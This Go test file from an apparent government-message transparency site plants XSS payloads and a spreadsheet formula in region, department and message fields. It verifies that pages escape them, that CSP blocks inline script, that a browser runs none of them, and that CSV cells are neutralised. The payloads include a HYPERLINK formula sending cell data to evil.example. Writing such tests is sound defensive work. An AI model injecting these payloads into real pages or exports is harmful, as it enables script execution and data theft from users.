package site

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/wenzheng-transparency/wenzheng/analytics"
	"github.com/wenzheng-transparency/wenzheng/demo"
	"github.com/wenzheng-transparency/wenzheng/ingest"
	"github.com/wenzheng-transparency/wenzheng/store"
)

// Hostile texts, each planted where ingested data reaches the pages: a
// province's and a department's names in both languages, a category, a
// channel, a title, a body and a reply. Each would run script, or set
// window.__pwned, if a page ever let it out of its text.
var hostile = struct {
	Province, ProvinceEn, Department, DepartmentEn, Category, Channel, Title, Body, Reply string
	// Formula would run in a spreadsheet opening a CSV: a second
	// department's name and a second message's title.
	Formula string
}{
	Province:     `</script><script>document.title=/PWNED/.source;window.__pwned=1</script>`,
	ProvinceEn:   `"><img src=x onerror="window.__pwned=2">`,
	Department:   `</script><script>window.__pwned=3</script>省住建厅`,
	DepartmentEn: `' onmouseover='window.__pwned=4' x='`,
	Category:     `<svg onload=window.__pwned=5>`,
	Channel:      `<b onmouseover=window.__pwned=6>`,
	Title:        `<script>window.__pwned=7</script>停车难`,
	Body:         `</textarea><iframe srcdoc="<script>parent.__pwned=8</script>">`,
	Reply:        `<!--<script>window.__pwned=9</script>-->`,
	Formula:      `=HYPERLINK("http://evil.example/?q="&A1,"点击")`,
}

// hostileFixture is a small demo whose busiest province and department,
// and one message of them, carry the hostile texts.
type hostileFixture struct {
	db                           *store.DB
	province, department, source string
	messageID                    string
}

var (
	hostileOnce sync.Once
	hostileFix  hostileFixture
	hostileErr  error
)

func mustHostile(tb testing.TB) hostileFixture {
	tb.Helper()
	hostileOnce.Do(func() { hostileFix, hostileErr = buildHostile() })
	if hostileErr != nil {
		tb.Fatal(hostileErr)
	}
	return hostileFix
}

func buildHostile() (hostileFixture, error) {
	ctx := context.Background()
	var f hostileFixture
	dir, err := tempDir()
	if err != nil {
		return f, err
	}
	if f.db, err = store.Open(ctx, filepath.Join(dir, "w.duckdb")); err != nil {
		return f, err
	}
	until := time.Date(2025, 12, 10, 12, 0, 0, 0, beijing)
	ds, err := demo.Generate(demo.Options{Seed: 11, Messages: 12000, Until: until})
	if err != nil {
		return f, err
	}
	if _, err := demo.Load(ctx, &ingest.Loader{DB: f.db, Secret: []byte("t")}, ds, dir); err != nil {
		return f, err
	}
	q := func(query string, args ...any) {
		if err == nil {
			_, err = f.db.ExecContext(ctx, query, args...)
		}
	}
	err = f.db.QueryRowContext(ctx, `SELECT r.parent_code FROM messages m JOIN regions r ON r.region_code = m.region_code
		WHERE r.level = 'city' GROUP BY 1 ORDER BY count(*) DESC, 1 LIMIT 1`).Scan(&f.province)
	if err != nil {
		return f, err
	}
	if err = f.db.QueryRowContext(ctx, `SELECT department_id FROM messages WHERE department_id IS NOT NULL
		GROUP BY 1 ORDER BY count(*) DESC, 1 LIMIT 1`).Scan(&f.department); err != nil {
		return f, err
	}
	if err = f.db.QueryRowContext(ctx, `SELECT m.source, m.source_id FROM messages m JOIN replies p USING (source, source_id)
		WHERE m.department_id = ? ORDER BY m.posted_at DESC LIMIT 1`, f.department).Scan(&f.source, &f.messageID); err != nil {
		return f, err
	}
	q(`UPDATE regions SET name = ?, name_en = ? WHERE region_code = ?`, hostile.Province, hostile.ProvinceEn, f.province)
	q(`UPDATE departments SET name = ?, name_en = ? WHERE department_id = ?`, hostile.Department, hostile.DepartmentEn, f.department)
	q(`UPDATE messages SET category = ? WHERE department_id = ?`, hostile.Category, f.department)
	q(`UPDATE messages SET channel = ?, title = ?, body = ? WHERE source = ? AND source_id = ?`,
		hostile.Channel, hostile.Title, hostile.Body, f.source, f.messageID)
	q(`UPDATE departments SET name = ? WHERE department_id = (SELECT department_id FROM messages
		WHERE department_id IS NOT NULL AND department_id <> ? GROUP BY 1 ORDER BY count(*) DESC, 1 LIMIT 1)`, hostile.Formula, f.department)
	q(`UPDATE messages SET title = ? WHERE source_id = (SELECT max(source_id) FROM messages WHERE department_id = ? AND source_id <> ?)`,
		hostile.Formula, f.department, f.messageID)
	q(`UPDATE replies SET body = ? WHERE source = ? AND source_id = ?`, hostile.Reply, f.source, f.messageID)
	if err != nil {
		return f, err
	}
	f.db.SetMeta(ctx, "mode", "demo")
	_, err = analytics.Compute(ctx, f.db, analytics.DefaultParams(), until)
	return f, err
}

// hostilePages are the pages where the planted texts show: charts, titles,
// attributes, tables and the thread.
func (f hostileFixture) pages() []string {
	year := "period_kind=year&period=2025"
	var out []string
	for _, p := range []string{
		"/?" + year, "/?level=department&" + year,
		"/rankings/regions?" + year, "/rankings/departments?" + year,
		"/embed/chart/regions?" + year, "/embed/chart/departments?" + year, "/embed/rankings/departments?" + year,
		"/regions/" + f.province + "?" + year, "/departments/" + f.department + "?" + year,
		"/messages/" + f.source + "/" + f.messageID + "?x=1", "/messages?department=" + f.department, "/messages?q=停车",
	} {
		// Both languages: each shows a name of its own.
		out = append(out, p+"&lang=zh", p+"&lang=en")
	}
	return out
}

var (
	// rawMarkup is any planted text that reached the page as markup.
	rawMarkup = regexp.MustCompile(`(?i)<script>(document|window)|<img src=x|<svg onload|<b onmouseover|<iframe srcdoc|onmouseover='window|<!--<script`)
	// jsonData finds the chart options.
	jsonData = regexp.MustCompile(`(?s)<script type="application/json" data-chart="([^"]+)">(.*?)</script>`)
)

// TestHostileNamesStayText plants script in every text that reaches a page
// and checks each page: no planted markup survives unescaped, the chart
// options are JSON that cannot end their element and still carry the names
// as text, and the page runs no inline script (the CSP forbids it).
func TestHostileNamesStayText(t *testing.T) {
	f := mustHostile(t)
	app, err := New(Config{DB: f.db})
	if err != nil {
		t.Fatal(err)
	}
	charts := 0
	for _, page := range f.pages() {
		resp, body := get(t, app, page)
		if resp.StatusCode != 200 {
			t.Errorf("%s: status %d", page, resp.StatusCode)
			continue
		}
		// The chart options are checked below: quotes are harmless in JSON.
		if m := rawMarkup.FindString(jsonData.ReplaceAllString(body, "")); m != "" {
			t.Errorf("%s: planted markup %q reached the page unescaped", page, m)
		}
		if csp := resp.Header.Get("Content-Security-Policy"); !strings.Contains(csp, "script-src 'self'") || strings.Contains(csp, "unsafe-inline") {
			t.Errorf("%s: Content-Security-Policy %q", page, csp)
		}
		if resp.Header.Get("X-Content-Type-Options") != "nosniff" || resp.Header.Get("Referrer-Policy") == "" {
			t.Errorf("%s: security headers missing: %v", page, resp.Header)
		}
		// Every <script> is either a file of ours or JSON data.
		for _, tag := range regexp.MustCompile(`<script[^>]*>`).FindAllString(body, -1) {
			if !strings.Contains(tag, ` src="/assets/`) && tag != `<script type="application/json" data-chart="chartTrend">` &&
				!strings.HasPrefix(tag, `<script type="application/json" data-chart="chart`) {
				t.Errorf("%s: inline script %s", page, tag)
			}
		}
		for _, m := range jsonData.FindAllStringSubmatch(body, -1) {
			charts++
			if strings.ContainsAny(m[2], "<>") {
				t.Errorf("%s: chart %s option has a raw < or >", page, m[1])
			}
			var option map[string]any
			if err := json.Unmarshal([]byte(m[2]), &option); err != nil {
				t.Errorf("%s: chart %s option is not JSON: %v", page, m[1], err)
			}
		}
	}
	if charts < 8 {
		t.Errorf("only %d charts on the hostile pages: the test does not reach them", charts)
	}
	// The names are on the pages, as text: the test would pass vacuously
	// if they were not shown at all.
	for _, c := range []struct{ page, want string }{
		{"/rankings/departments?period_kind=year&period=2025", `&lt;/script&gt;&lt;script&gt;window.__pwned=3&lt;/script&gt;省住建厅`},
		{"/embed/chart/departments?period_kind=year&period=2025", `\u003c/script\u003e\u003cscript\u003ewindow.__pwned=3\u003c/script\u003e省住建厅`},
		{"/embed/chart/regions?period_kind=year&period=2025", `\u003c/script\u003e\u003cscript\u003edocument.title=/PWNED/.source;window.__pwned=1\u003c/script\u003e`},
		{"/messages/" + f.source + "/" + f.messageID, `&lt;svg onload=window.__pwned=5&gt;`},
	} {
		if _, body := get(t, app, c.page); !strings.Contains(body, c.want) {
			t.Errorf("%s does not show %s as text", c.page, c.want)
		}
	}
}

// TestHostileNamesInBrowser opens the hostile pages in Chromium: no planted
// script runs, the title stays ours, the charts are drawn, and the browser
// reports no Content-Security-Policy violation (the pages need no inline
// script or style).
func TestHostileNamesInBrowser(t *testing.T) {
	f := mustHostile(t)
	app, err := New(Config{DB: f.db})
	if err != nil {
		t.Fatal(err)
	}
	ctx, base := serveInBrowser(t, app)
	charts := 0
	for _, p := range f.pages() {
		if err := chromedp.Do(ctx, chromedp.Navigate(base+p)); err != nil {
			t.Fatalf("%s: %v", p, err)
		}
		// Charts are drawn once the page has loaded; wait for them (or 10 s).
		chromedp.Run(ctx, chromedp.Poll[bool](`[...document.querySelectorAll('script[data-chart]')].every(s => {
			const el = document.getElementById(s.dataset.chart);
			return el && window.echarts && echarts.getInstanceByDom(el) && el.querySelector('canvas'); })`,
			chromedp.WithPollingTimeout(10*time.Second)))
		got, err := chromedp.Run(ctx, chromedp.Evaluate[pageState](`({
			pwned: window.__pwned === undefined ? "" : String(window.__pwned),
			title: document.title,
			violations: (window.__csp || []).join("; "),
			charts: document.querySelectorAll('script[data-chart]').length,
			drawn: [...document.querySelectorAll('script[data-chart]')].filter(s => {
				const el = document.getElementById(s.dataset.chart);
				return el && window.echarts && echarts.getInstanceByDom(el) && el.querySelector('canvas'); }).length,
		})`))
		if err != nil {
			t.Fatalf("%s: %v", p, err)
		}
		if got.Pwned != "" || got.Title == "PWNED" { // the planted script sets the title to exactly this
			t.Errorf("%s: planted script ran: __pwned=%q title=%q", p, got.Pwned, got.Title)
		}
		if got.Violations != "" {
			t.Errorf("%s: CSP violations: %s", p, got.Violations)
		}
		if got.Charts != got.Drawn {
			t.Errorf("%s: %d charts, %d drawn", p, got.Charts, got.Drawn)
		}
		charts += got.Charts
	}
	if charts < 8 {
		t.Errorf("only %d charts on the hostile pages", charts)
	}
}

// pageState is what TestHostileNamesInBrowser reads off a page.
type pageState struct {
	Pwned      string `json:"pwned"`
	Title      string `json:"title"`
	Violations string `json:"violations"`
	Charts     int    `json:"charts"`
	Drawn      int    `json:"drawn"`
}

// TestHostileCSVCells: the CSVs for Excel (rankings, messages) never start a
// text cell with a formula, and numbers stay numbers.
func TestHostileCSVCells(t *testing.T) {
	f := mustHostile(t)
	app, err := New(Config{DB: f.db})
	if err != nil {
		t.Fatal(err)
	}
	for _, target := range []string{"/rankings/departments.csv?period_kind=year&period=2025", "/messages.csv?department=" + f.department} {
		resp, body := get(t, app, target)
		if resp.StatusCode != 200 {
			t.Fatalf("%s: status %d", target, resp.StatusCode)
		}
		recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\ufeff"))).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", target, err)
		}
		found := false
		for _, rec := range recs[1:] {
			for _, v := range rec {
				if v == "'"+hostile.Formula {
					found = true
				}
				if v != "" && strings.ContainsRune("=+@", rune(v[0])) {
					t.Errorf("%s: cell %q would run as a formula", target, v)
				}
				if strings.HasPrefix(v, "-") {
					if _, err := strconv.ParseFloat(v, 64); err != nil {
						t.Errorf("%s: cell %q would run as a formula", target, v)
					}
				}
			}
		}
		if !found {
			t.Errorf("%s: the planted formula is not in the file, neutralised", target)
		}
	}
}
